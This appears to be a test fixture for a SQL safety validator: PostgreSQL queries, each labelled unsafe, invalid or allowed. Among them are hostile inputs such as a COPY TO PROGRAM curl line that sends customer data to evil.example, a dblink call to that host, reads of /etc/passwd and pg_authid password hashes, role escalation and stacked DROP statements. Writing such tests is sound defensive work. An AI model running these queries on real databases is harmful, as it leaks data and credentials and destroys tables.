-- unsafe function
SELECT o.id, o.total, pg_catalog.pg_sleep(100) AS audit_delay FROM app.orders o

-- unsafe function
WITH audit AS (SELECT set_config('app.audit', 'on', false) AS a) SELECT o.id, audit.a FROM app.orders o, audit

-- unsafe function
SELECT o.*, dblink_exec('host=evil.example', 'select 1') FROM app.orders o

-- unsafe function
SELECT coalesce(name, lo_export(lobj, '/tmp/x')::text) FROM app.customers

-- unsafe secret
SELECT name, email FROM app.customers UNION ALL SELECT rolname, rolpassword FROM pg_authid

-- unsafe function
SELECT version(), current_user, session_user, inet_server_addr(), count(*) FROM app.orders

-- unsafe function
SELECT name FROM app.customers ORDER BY (SELECT count(*) FROM pg_ls_dir('/'))

-- unsafe function
SELECT name FROM app.customers LIMIT (SELECT length(pg_read_file('/etc/passwd')))

-- unsafe select_only
SELECT name FROM app.customers; UPDATE app.customers SET name = 'x'

-- unsafe select_only
SELECT 1
;
DO $x$ BEGIN EXECUTE 'drop table app.orders'; END $x$

-- allow
SELECT name /* ; DROP TABLE app.orders -- */ FROM app.customers -- */; DROP TABLE app.orders

-- allow
SELECT $a$ '; DROP TABLE app.orders; -- $a$ FROM app.customers

-- allow
SELECT E'\'; SELECT pg_sleep(9); --' FROM app.customers

-- unsafe select_only
EXPLAIN (ANALYZE, VERBOSE) SELECT * FROM app.orders

-- unsafe select_only
COPY (SELECT * FROM app.customers) TO PROGRAM 'curl -d @- evil.example'

-- unsafe select_only
SET ROLE postgres; SELECT * FROM app.orders

-- unsafe function
SELECT current_setting('ssl_key_file'), count(*) FROM app.orders

-- unsafe function
SELECT pg_notify('exfil', name) FROM app.customers

-- unsafe function
SELECT * FROM app.orders WHERE pg_try_advisory_xact_lock_shared(id)

-- unsafe locks
SELECT * FROM app.orders ORDER BY id FOR UPDATE SKIP LOCKED

-- invalid function
SELECT * FROM app.orders TABLESAMPLE system_rows(10)

-- allow
SELECT w.pg_sleep FROM app."Weird; DROP TABLE x" w

-- invalid column
SELECT c.total_of FROM app.customers c

-- invalid column
SELECT total_of FROM app.customers

-- invalid column
SELECT (c).total_of FROM app.customers c

-- invalid type
SELECT (s.c).total_of FROM (SELECT c FROM app.customers c) s

-- invalid function
SELECT total_of(c) FROM app.customers c

-- allow
SELECT (c.name).touch FROM app.customers c

-- allow
SELECT ((c.tags)[1]).touch FROM app.customers c

-- unsafe function
SELECT * FROM pg_input_error_info('1', 'app.pos')

-- unsafe function
SELECT SYSTEM_USER

-- invalid size
SELECT repeat('x', 1_000_000_000)

-- invalid size
SELECT repeat('x', 0x3fffffff)

-- invalid size
SELECT lpad('x', 0b111111111111111111111111111)

-- invalid size
SELECT count(*) FROM generate_series(1, 0o77777777777)

-- allow
SELECT attrs IS JSON OBJECT WITH UNIQUE KEYS FROM app.customers

-- invalid type
SELECT JSON_ARRAYAGG(id RETURNING app.pos) FROM app.customers

-- invalid type
SELECT JSON_OBJECT('a': 1 RETURNING regclass)

-- invalid syntax
WITH m AS (MERGE INTO app.orders o USING app.customers c ON c.id = o.customer_id WHEN MATCHED THEN UPDATE SET note = 'x' RETURNING merge_action(), o.*) SELECT * FROM m

-- invalid syntax
SELECT jt.* FROM app.customers c, JSON_TABLE(c.attrs, '$.a.b[*]' COLUMNS (x int PATH '$' DEFAULT app.secret_fn() ON EMPTY)) jt

-- invalid syntax
SELECT JSON_VALUE(attrs, '$.a' RETURNING app.pos) FROM app.customers

-- invalid syntax
SELECT JSON_QUERY(attrs, '$.a ? (@ > $x)' PASSING nextval('app.seq') AS x) FROM app.customers

-- unsafe function
SELECT to_bin(5), to_oct(8), pg_column_toast_chunk_id(body) FROM app.customers

-- allow
SELECT random(1, 10)

-- unsafe writes
WITH u AS (UPDATE app.orders SET note = 'x' RETURNING old.note AS o, new.note AS n) SELECT * FROM u

-- allow
SELECT old.note FROM app.orders old JOIN app.orders new ON new.id = old.id

-- allow
SELECT gen FROM app.orders

-- unsafe function
SELECT * FROM pg_get_loaded_modules()

-- unsafe function
SELECT * FROM pg_stat_get_backend_io(1)

-- unsafe function
SELECT pg_clear_relation_stats('app', 'orders')

-- invalid syntax
CREATE TABLE x (id int, v daterange, PRIMARY KEY (id, v WITHOUT OVERLAPS))

-- invalid type
SELECT id FROM app.customers ORDER BY worth

-- invalid type
SELECT DISTINCT worth FROM app.customers

-- invalid type
SELECT worth, count(*) FROM app.customers GROUP BY worth

-- invalid type
SELECT count(DISTINCT worth) FROM app.customers

-- invalid type
SELECT max(worth) FROM app.customers

-- invalid type
SELECT 1 FROM app.customers c JOIN app.customers d ON c.worth = d.worth

-- invalid type
SELECT 1 FROM app.customers c WHERE c.worth IN (SELECT worth FROM app.customers)

-- invalid type
SELECT c.worth + c.worth FROM app.customers c

-- invalid operator
SELECT c.worth OPERATOR(app.+) c.worth FROM app.customers c

-- invalid type
SELECT worth FROM app.customers UNION SELECT worth FROM app.customers

-- invalid type
SELECT worth FROM app.customers INTERSECT SELECT worth FROM app.customers

-- invalid type
SELECT 1 FROM app.customers c WHERE ROW(c.worth, 1) < ROW(c.worth, 2)

-- invalid type
SELECT 1 FROM app.customers c JOIN app.customers d ON c = d

-- invalid type
SELECT DISTINCT c FROM app.customers c

-- invalid type
SELECT DISTINCT * FROM app.customers

-- invalid type
SELECT array_agg(DISTINCT worth) FROM app.customers

-- invalid type
SELECT rank() OVER (PARTITION BY worth ORDER BY id) FROM app.customers

-- invalid type
SELECT lag(worth, 1, '(1,x)') OVER (ORDER BY id) FROM app.customers

-- invalid type
SELECT nullif(worth, worth), worth IS DISTINCT FROM worth FROM app.customers

-- invalid type
SELECT greatest(worth, worth) FROM app.customers

-- invalid type
SELECT count(*) FROM app.customers NATURAL JOIN (SELECT worth FROM app.customers) x

-- invalid type
SELECT CASE worth WHEN worth THEN 1 END FROM app.customers

-- invalid type
SELECT worth BETWEEN worth AND worth FROM app.customers

-- invalid type
SELECT array_position(ARRAY[worth], worth) FROM app.customers

-- invalid type
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY worth), mode() WITHIN GROUP (ORDER BY worth) FROM app.customers

-- invalid type
SELECT ARRAY[worth] = ARRAY[worth] FROM app.customers

-- invalid type
SELECT fr @> 1.5::float8, fr && fr, range_merge(fr, fr) FROM app.customers

-- invalid function
SELECT app.frange(1, 2)

-- invalid type
SELECT mood + 1 FROM app.customers

-- invalid type
SELECT mood::int FROM app.customers

-- invalid type
SELECT abs(mood), round(mood) FROM app.customers

-- invalid type
SELECT to_jsonb(mood), json_build_object('m', mood) FROM app.customers

-- invalid type
SELECT mood FROM app.customers

-- invalid column
SELECT state, state::text, count(*) FROM app.customers GROUP BY state ORDER BY state

-- invalid type
SELECT '5'::app.pos

-- invalid type
SELECT ARRAY[1]::app.pos[]

-- allow
SELECT coalesce(age, 5) FROM app.customers

-- allow
SELECT email FROM app.customers WHERE email LIKE '%@b'

-- invalid type
SELECT '(1,EUR)'::app.money2

-- invalid type
SELECT ROW(1, 'EUR')::app.money2

-- invalid type
SELECT jsonb_populate_record(c, '{"age": 3}') FROM app.customers c

-- invalid type
SELECT * FROM jsonb_to_record('{"a": 1}') AS t(a app.pos)

-- allow
SELECT x FROM unnest(ARRAY[1]) AS x (a)

-- invalid type
SELECT * FROM json_to_recordset('[{"m": "ok"}]') AS t(m app.mood)

-- invalid definition
SELECT * FROM app.v3

-- invalid definition
SELECT * FROM app.v1

-- invalid definition
SELECT * FROM app.v_inv

-- invalid definition
SELECT count(*) FROM app.v_barrier

-- allow
SELECT * FROM app.v_inv2

-- allow
SELECT * FROM app.v_ok ORDER BY spent DESC

-- invalid definition
SELECT m FROM app.v_agg

-- invalid definition
SELECT s FROM app.v_op

-- invalid definition
SELECT count(*) FROM app.v_sort

-- unsafe definition
SELECT * FROM app.v_lock

-- unsafe definition
SELECT * FROM app.v_cat

-- unsafe definition
SELECT * FROM app.v_pw

-- allow
SELECT n FROM app.mv

-- invalid definition
SELECT * FROM app.tenants

-- allow
SELECT * FROM app.rls_ok

-- invalid definition
SELECT * FROM app.rls_sub

-- unsafe relation
SELECT * FROM app.parent

-- invalid relation
SELECT * FROM app.part1

-- unsafe relation
SELECT * FROM app.inh

-- unsafe definition
SELECT * FROM app.v_ft

-- invalid function
SELECT median(total::float8) FROM app.orders

-- invalid function
SELECT first(name) FROM app.customers

-- invalid function
SELECT app.total(worth) FROM app.customers

-- invalid function
SELECT string_agg(name, ',' ORDER BY app.secret_fn()) FROM app.customers

-- allow
SELECT name COLLATE app.evil FROM app.customers ORDER BY 1

-- invalid type
SELECT name COLLATE "nosuch.evil"."x"."y" FROM app.customers

-- allow
SELECT to_tsvector('app.tsc', body) FROM app.customers

-- invalid type
SELECT to_tsquery('app.tsc'::regconfig, 'x')

-- allow
SELECT * FROM ts_debug('app.tsc', 'x')

-- allow
SELECT ts_lexize('english_stem', 'cats')

-- allow
SELECT ts_headline(repeat('a b ', 10000), to_tsquery('a & b'), 'MaxFragments=2147483647, MaxWords=2147483647')

-- allow
SELECT * FROM ts_parse('default', 'a b'), ts_token_type('default')

-- allow
SELECT ts_delete(doc, 'fat'), setweight(doc, 'A', ARRAY['cat']), tsvector_to_array(doc) FROM app.customers

-- invalid type
SELECT 'pg_sleep'::regproc::oid

-- invalid type
SELECT id::oid::regprocedure FROM app.orders

-- unsafe function
SELECT to_regproc('pg_sleep'), to_regtype('app.mood'), to_regrole('postgres')

-- allow
SELECT pg_total_relation_size('app.orders'::regclass)

-- unsafe function
SELECT nextval('app.seq'::regclass)

-- unsafe function
SELECT lo_get(lobj) FROM app.customers

-- unsafe function
SELECT lowrite(lo_open(lobj, 131072), 'x') FROM app.customers

-- unsafe function
SELECT pg_advisory_xact_lock(hashtext(name)) FROM app.customers

-- invalid size
SELECT count(*) FROM generate_series(date '0001-01-01', date '9999-12-31', '1 minute') s

-- allow
SELECT 9.9::numeric ^ 99999999

-- allow
SELECT factorial(100000)

-- allow
SELECT exp(20000::numeric), 10::numeric ^ 130000

-- invalid size
SELECT count(*) FROM app.orders a, app.orders b, app.orders c, app.orders d, app.orders e, app.orders f, app.orders g, app.orders h

-- invalid size
SELECT string_agg(repeat(a.note, 10000), '') FROM app.orders a, app.orders b, app.orders c, app.orders d

-- allow
SELECT repeat('a', 9000) ~ '(a*)*(a*)*(a*)*b'

-- invalid size
SELECT repeat('a', 9999) LIKE repeat('%a', 4000) || 'b'

-- allow
SELECT jsonb_path_query(attrs, '$.**{0 to last} ? (@ like_regex "(a+)+b")') FROM app.customers

-- invalid recursion
WITH RECURSIVE r(n, a) AS (SELECT 1, ARRAY[1] UNION ALL SELECT n + 1, a || a FROM r WHERE n < 40) SELECT cardinality(a) FROM r

-- allow
SELECT array_fill(0, ARRAY[9999], ARRAY[-2147483647])

-- invalid size
SELECT to_char(1, repeat('9', 10000)), to_char(now(), repeat('Month', 9000))

-- allow
SELECT overlay('x' placing repeat('y', 10000) from 1 for 1000000000)

-- allow
SELECT substring(repeat('x', 10000) from 1 for 2147483647)

-- allow
SELECT encode(repeat(E'\\000', 2500)::bytea, 'escape')

-- allow
SELECT (1::bit(9999)) << 100000000, get_bit(pic, 2147483648) FROM app.customers

-- allow
SELECT xmlagg(('<a>' || body || '</a>')::xml) FROM app.customers

-- invalid size
SELECT count(*) FROM unnest(string_to_array(repeat('a,', 5000), ',')) a JOIN unnest(string_to_array(repeat('a,', 5000), ',')) b ON a = b JOIN unnest(string_to_array(repeat('a,', 5000), ',')) c ON b = c

-- allow
SELECT count(*) FROM app.idx WHERE x > 5

-- allow
SELECT x % 10, count(*) FROM app.idx GROUP BY 1

-- allow
SELECT x FROM app.chk

-- invalid relation
SELECT last_value FROM app.seq

-- unsafe catalog
SELECT * FROM pg_temp.t

-- unsafe catalog
SELECT t.* FROM pg_catalog.pg_stat_user_tables t

-- unsafe catalog
SELECT c.name FROM app.customers c JOIN information_schema.columns i ON true

-- unsafe function
SELECT pg_current_xact_id_if_assigned(), pg_snapshot_xmin(pg_current_snapshot())

-- invalid column
SELECT name FROM app.customers WHERE tableoid = 1

-- invalid column
SELECT name FROM app.customers WHERE ctid = '(0,1)'

-- unsafe function
SELECT pg_column_size(body), pg_relation_filepath('app.customers') FROM app.customers

-- unsafe function
SELECT row_security_active('app.tenants')

-- invalid type
SELECT p.id, (SELECT 1 AS p ORDER BY length(p)) AS q FROM app.poc p

-- invalid type
SELECT p.id, (SELECT 1 AS p GROUP BY p || '') AS q FROM app.poc p

-- invalid type
SELECT p.id, (SELECT DISTINCT ON (p || '') 1 AS p) AS q FROM app.poc p

-- invalid column
SELECT (SELECT 1 AS ctid ORDER BY ctid::text) FROM app.poc p

-- allow
SELECT p.id, (SELECT 1 AS p ORDER BY p) AS q FROM app.poc p
